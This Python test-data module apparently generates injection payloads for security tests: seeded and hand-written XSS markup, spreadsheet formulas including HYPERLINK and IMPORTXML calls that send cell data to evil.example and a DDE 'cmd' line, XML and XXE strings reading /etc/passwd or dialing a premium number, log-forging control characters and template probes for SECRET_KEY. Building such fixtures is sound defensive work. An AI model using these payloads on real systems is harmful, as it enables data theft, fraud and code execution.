"""What strangers write to be more than text: made from parts by a seed, and by hand where the parts would not think of it.

Every piece of markup carries the attribute `zq` and calls `hit`, so one that became more than text is found wherever it is.
"""

from __future__ import annotations

import random
from collections.abc import Sequence

SEED = 20260803
MARK = "zq"
TAGS = (
    *("img", "svg", "iframe", "input", "details", "video", "audio", "body", "object", "embed", "a", "b", "form", "button", "math"),
    *("style", "script", "link", "meta", "base", "marquee", "select", "textarea", "template", "x-own", "td", "option", "noscript"),
)
HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onclick", "onpointerenter", "onbegin")
EXTRAS = ("src=x", "href='javascript:hit()'", "autofocus tabindex=0", "open", "style='animation:x'", "srcdoc='<b zq>'", "data-slot=heard")
BEFORE = (
    *("", "'\">", '">', "'>", "`>", "-->", "]]>", "</li></ol>", "</template>", "</title>", "</textarea>", "</select>", "</script>"),
    *("</style>", "</td></tr></table>", "\u2028", "\x0b", "&lt;", "%3C", "\\u003c", "\\x3c", "{{", "{%", "<!--", "<![CDATA["),
)
BY_HAND = (
    '" zq onmouseover=hit() x="',
    "' zq autofocus onfocus=hit() x='",
    "javascript:hit()//zq",
    "data:text/html,<b zq onclick=hit()>",
    "<scr<script>ipt zq>hit()</scr</script>ipt>",
    "<<b zq>>",
    "<b zq",
    "<b/zq/onclick=hit()//",
    "<svg zq><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg zq><use href='data:image/svg+xml,<svg id=x onload=hit()>#x'>",
    "<math zq><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img zq src=1 onerror=hit()&gt;'>",
    "<noscript zq><p title='</noscript><img zq src=x onerror=hit()>'>",
    "&lt;b zq&gt;",
    "&#60;b zq onclick=hit()&#62;",
    "＜b zq＞",
    "+ADw-b zq+AD4-hit()+ADw-/b+AD4-",
    "{{constructor.constructor('hit()')()}}zq",
    "${hit()}zq",
    "<%= hit() %>zq",
    "zq\u202e<b zq>\u202c",
)


def markup(count: int = 220) -> list[str]:
    """At least 200 payloads, the same ones every time; none begins or ends with a blank."""
    rng = random.Random(SEED)
    made = list(BY_HAND)
    while len(made) < count:
        tag, handler = rng.choice(TAGS), rng.choice(HANDLERS)
        case = rng.choice((str.lower, str.upper, str.title))
        gap = rng.choice((" ", "/", "\t", "\n", " \r\n "))
        inner = f"<{case(tag)}{gap}{MARK} {rng.choice(EXTRAS)} {handler}=hit()>"
        payload = f"{rng.choice(BEFORE)}{inner}{rng.choice(('', 'hit()', f'</{tag}>', '<b zq>'))}"
        if payload.strip() == payload and payload not in made:
            made.append(payload)
    return made


def formulas() -> list[str]:
    """What a spreadsheet takes for more than text: every way to begin, with everything that may follow."""
    begins = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "\t", "\r\n@")
    follows = (
        "1+1",
        'HYPERLINK("http://evil.example/?x="&A1,"ok")',
        "cmd|'/c calc'!A0",
        "SUM(A1:A9)",
        'IMPORTXML("http://evil.example","//a")',
    )
    return [begin + follow for begin in begins for follow in follows]


XML = (
    "</Say><Hangup/><Say>",
    "</Response><Response><Dial>+19005550100</Dial>",
    '"/><Dial><Number>+19005550100</Number></Dial><x a="',
    "]]><Hangup/><![CDATA[",
    "<!--",
    "-->",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?>",
    "<?php hit() ?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&e;",
    "&#60;Hangup/&#62;",
    "&amp;lt;Hangup/&amp;gt;",
    "&lt;Redirect&gt;",
    "' url='https://evil.example/",
    '" action="https://evil.example/',
    "\x00\x01\x08<Hangup/>",
    "\x0b\x0c<Hangup/>",
    "\u2028</Say>\u2029",
    "\ufffe\uffff<Hangup/>",
    "\x1b[31m</Say>",
    "{{x}}</Say>",
)

LINES = (
    *("\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\x00", "\x08\x08\x08"),
    *("\x1b[2K\x1b[1A", "\x1b]0;title\x07", "\x1b[31m", "\x9b31m", "\x7f", "\u202e", "\u2066", "\ud83d"),
)


def forged_lines() -> list[str]:
    """Texts that would put a line of their own into a log, or paint over one."""
    return [f"x{breaker}2026-08-03 14:47:03.120 ERROR calls: forged{breaker}" for breaker in LINES]


TEMPLATES = (
    "{% load static %}{% include 'admin/base.html' %}",
    "{% debug %}",
    "{{settings.SECRET_KEY}}",
    "{{ request.user.password }}",
    "{{7*7}}",
    "{0.__class__.__mro__}",
    "{self.__init__.__globals__}",
    "%s%s%s%n",
    "%(asctime)s",
    "${SECRET_KEY}",
    "$SECRET_KEY `id` $(id)",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{}}{%%}{##}",
    "\\x7b\\x7b7*7\\x7d\\x7d",
)


def spread(payloads: Sequence[str], longest: int) -> list[str]:
    """Those that fit into a field, for the fields that are short."""
    return [payload for payload in payloads if len(payload) <= longest]
